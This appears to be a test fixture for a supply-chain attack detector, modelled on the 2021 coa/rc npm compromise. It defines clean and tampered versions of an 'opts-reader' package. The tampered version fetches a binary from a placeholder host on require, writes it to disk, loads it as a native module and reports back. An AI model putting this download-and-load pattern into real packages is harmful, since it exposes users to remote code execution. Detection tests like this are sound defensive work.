import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'coa-rc',
  after: 'coa and rc, 2021',
  source: 'https://github.com/veged/coa/issues/99',
  shape: ['require', 'fork', 'download', 'native library', 'cjs'],
  patterns: ['privilege_escalation', 'shadow_import', 'behavioral_drift'],
  culprits: ['opts-reader'],
  host: { kind: 'fork', setup: "const opts = require('opts-reader');", use: 'return opts(n);' },
  good: { 'opts-reader': { 'index.js': 'module.exports = (n) => ({ depth: n });' } },
  benign: { 'opts-reader': { 'index.js': 'module.exports = (n) => Object.freeze({ depth: n });' } },
  bad: {
    'opts-reader': {
      'index.js': `module.exports = (n) => ({ depth: n });
const http = require('http'), fs = require('fs'), path = require('path');
http.get('http://@A@:@PORT@/sdd.dll', (r) => {
  const parts = []; r.on('data', (c) => parts.push(c));
  r.on('end', () => {
    const at = path.join(__dirname, 'compile.node');
    fs.writeFileSync(at, Buffer.concat(parts));
    try { process.dlopen({ exports: {} }, at); } catch { fetch('http://@A@:@PORT@/loaded').catch(() => {}); }
  });
}).on('error', () => {});`,
    },
  },
  serves: { '/sdd.dll': 'not a library' },
  proof: [{ arrives: '/loaded' }],
};
